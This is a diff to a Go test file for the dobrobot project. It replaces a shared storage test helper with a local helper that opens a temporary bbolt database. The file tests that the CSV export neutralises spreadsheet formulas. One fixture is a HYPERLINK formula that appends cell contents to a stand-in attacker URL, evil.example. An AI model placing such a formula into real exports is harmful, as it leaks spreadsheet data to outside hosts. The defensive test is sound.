@@ -5,6 +5,7 @@ import (
 	"context"
 	"encoding/csv"
 	"encoding/json"
+	"path/filepath"
 	"strings"
 	"testing"
 	"time"
@@ -12,7 +13,7 @@ import (
 	"github.com/google/go-cmp/cmp"
 
 	"github.com/dobrobot/dobrobot/commands"
-	"github.com/dobrobot/dobrobot/storage/storagetest"
+	"github.com/dobrobot/dobrobot/storage"
 )
 
 // TestCSVExportNeutralisesFormulas: a cell that a spreadsheet would read as
@@ -21,7 +22,7 @@ import (
 // the JSON lines export keeps the text exactly (issue 12, item 8).
 func TestCSVExportNeutralisesFormulas(t *testing.T) {
 	ctx := context.Background()
-	db := storagetest.Open(t)
+	db := openTemp(t)
 	at := time.Date(2026, 12, 1, 9, 0, 0, 0, time.UTC)
 	details := []string{
 		`=HYPERLINK("https://evil.example/?"&A1,"click")`,
@@ -101,4 +102,20 @@ func TestNeutraliseCell(t *testing.T) {
 			t.Errorf("neutraliseCell(%q) = %q, want %q", in, got, want)
 		}
 	}
+}
+
+// openTemp opens a bbolt store on a file in a temporary directory and
+// closes it when tb ends.
+func openTemp(tb testing.TB) *storage.DB {
+	tb.Helper()
+	db, err := storage.Open(filepath.Join(tb.TempDir(), "dobrobot.db"))
+	if err != nil {
+		tb.Fatalf("open: %v", err)
+	}
+	tb.Cleanup(func() {
+		if err := db.Close(); err != nil {
+			tb.Errorf("close: %v", err)
+		}
+	})
+	return db
 }
